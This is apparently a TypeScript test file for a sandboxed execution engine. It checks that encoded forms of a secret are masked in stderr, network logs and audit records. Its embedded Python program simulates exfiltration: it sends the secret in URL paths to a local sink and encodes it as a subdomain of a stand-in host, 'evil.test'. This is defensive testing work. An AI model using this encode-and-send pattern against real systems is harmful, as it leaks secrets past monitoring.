// Derived forms of a secret (base64 at each alignment, hex, URL encodings: see
// secret-forms.ts) are masked on every channel a program's output reaches, not only stdout
// (docs/SECURITY.md G12, G7): stderr (collected and streamed), the network log (each form in
// a URL path and query, and the hex form as a host name), and the audit record (stdout,
// stderr and network log, written with includeOutput). The twin runs the same program with
// the value as a plain env entry: every form shows on every channel, so the probe is real.
//
// SAFETY: the only destination is a sink this file starts on 127.0.0.1; names come from the
// engine's static host table.
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { mkdtempSync, readdirSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { AuditRecord } from "../../src/engine/audit/audit-record";
import type { DockerIsol8 } from "../../src/engine/engine";
import type { ExecutionRequest, ExecutionResult, NetworkLogEntry } from "../../src/protocol/execution";
import { testEngine } from "../helpers";
import { streamRun } from "./execution-helpers";
import { type HttpSink, PY_HTTP, startHttpSink } from "./network-sinks";
import { ownedContainers } from "./owned-containers";
import { expectedForms, FORMS_PY, S, SECRET, text } from "./secret-forms";

const forms = expectedForms();
/** The hex form as a host label (58 characters, under 63): refused, and logged with its host. */
const HEX_HOST = `${S.toString("hex")}.evil.test`;

let work: string;
let sink: HttpSink;
let engine: DockerIsol8;

beforeAll(async () => {
  work = mkdtempSync(join(tmpdir(), "isol8-secrets-channels-"));
  sink = await startHttpSink("127.0.0.1");
  engine = testEngine({
    config: {
      audit: { enabled: true, logDir: join(work, "audit"), includeOutput: true },
      network: { hosts: { "sink.test": "127.0.0.1" }, allowedCidrs: ["127.0.0.1/32"], allowedPorts: [sink.port] },
    },
  });
});

afterAll(async () => {
  await engine?.stop();
  if (engine) expect(await ownedContainers(engine)).toEqual([]);
  await sink?.close();
  if (work) rmSync(work, { recursive: true, force: true });
});

/** Every form on stderr, then one GET per form carrying it in the path and the query, then one to the hex host. */
const program = (port: number) => `${PY_HTTP}
${FORMS_PY}
import sys
for name, form in forms:
    print(f'{name}={form}', file=sys.stderr)
for name, form in forms:
    get(f"http://sink.test:${port}/{name}/{form}?q={form}")
get(f"http://{s.hex()}.evil.test:${port}/")
print("done")
`;

const request = (values: "secrets" | "env"): ExecutionRequest => ({
  runtime: "python",
  network: "filtered",
  allow: ["sink.test"],
  logNetwork: true,
  timeoutMs: 60_000,
  [values]: { TOKEN: SECRET },
  code: program(sink.port),
});

function auditRecord(executionId: string): { raw: string; record: AuditRecord } {
  const dir = join(work, "audit");
  const lines = readdirSync(dir)
    .flatMap((file) => readFileSync(join(dir, file), "utf8").split("\n"))
    .filter((line) => line.includes(executionId));
  expect(lines).toHaveLength(1);
  return { raw: lines[0]!, record: JSON.parse(lines[0]!) as AuditRecord };
}

/** The network log's paths of the sink requests, in the order of the forms. */
const loggedPaths = (logs: NetworkLogEntry[]) => logs.filter((e) => e.host === "sink.test").map((e) => e.path);
const pathOf = (name: string, form: string) => `/${name}/${form}?q=${form}`;

let masked: ExecutionResult;
let twin: ExecutionResult;

describe("derived forms of a secret on every channel", () => {
  beforeAll(async () => {
    [twin, masked] = [await engine.execute(request("env")), await engine.execute(request("secrets"))];
  }, 120_000);

  test("twin: without `secrets`, every form shows on stderr, in the network log (paths and the hex host) and in the audit record (the probe is real)", () => {
    expect(twin.stdout).toBe("done\n");
    expect(twin.stderr).toBe(text(forms, "form"));
    expect(loggedPaths(twin.networkLogs ?? [])).toEqual(forms.map((l) => pathOf(l.name, l.form)));
    expect((twin.networkLogs ?? []).find((e) => e.action === "BLOCK")).toMatchObject({ host: HEX_HOST, reason: `host "${HEX_HOST}" is not in the allow list` });
    const { record } = auditRecord(twin.executionId);
    expect(record.stderr).toBe(twin.stderr);
    expect(record.networkLogs).toEqual(twin.networkLogs);
  });

  test("stderr, collected: every form is masked where the value alone determines it", () => {
    expect(masked.exitCode).toBe(0);
    expect(masked.stderr).toBe(text(forms, "masked"));
    for (const line of forms) expect(masked.stderr).not.toContain(line.form);
  });

  test("stderr, streamed: every form is masked in the events too", async () => {
    const run = await streamRun(engine, request("secrets"));
    expect(run.stderr).toBe(text(forms, "masked"));
    for (const line of forms) expect(JSON.stringify(run.events)).not.toContain(line.form);
  }, 60_000);

  test("network log: each form in a URL path and query is masked, the hex form in a refused host and its reason too; the sink still received what the program sent", () => {
    const logs = masked.networkLogs ?? [];
    expect(loggedPaths(logs)).toEqual(forms.map((l) => pathOf(l.name, l.masked)));
    const blocked = logs.filter((e) => e.action === "BLOCK");
    expect(blocked).toHaveLength(1);
    expect(blocked[0]!.host).toBe("***.evil.test");
    expect(blocked[0]!.reason).toBe('host "***.evil.test" is not in the allow list');
    const everything = JSON.stringify(logs);
    for (const line of forms) expect([line.name, everything.includes(line.form)]).toEqual([line.name, false]);
    // Exfiltration to an allowed host cannot be prevented, only kept out of the logs (G7).
    const received = sink.requests.map((seen) => seen.url);
    for (const line of forms) expect(received).toContain(pathOf(line.name, line.form));
  });

  test("audit record (includeOutput): stdout, stderr and the network log are recorded masked; no form and no value in the line", () => {
    const { raw, record } = auditRecord(masked.executionId);
    expect(record.stdout).toBe("done\n");
    expect(record.stderr).toBe(text(forms, "masked"));
    expect(record.networkLogs).toEqual(masked.networkLogs);
    expect(raw).not.toContain(SECRET);
    expect(raw).not.toContain(JSON.stringify(SECRET).slice(1, -1));
    for (const line of forms) expect([line.name, raw.includes(line.form)]).toEqual([line.name, false]);
  });
});
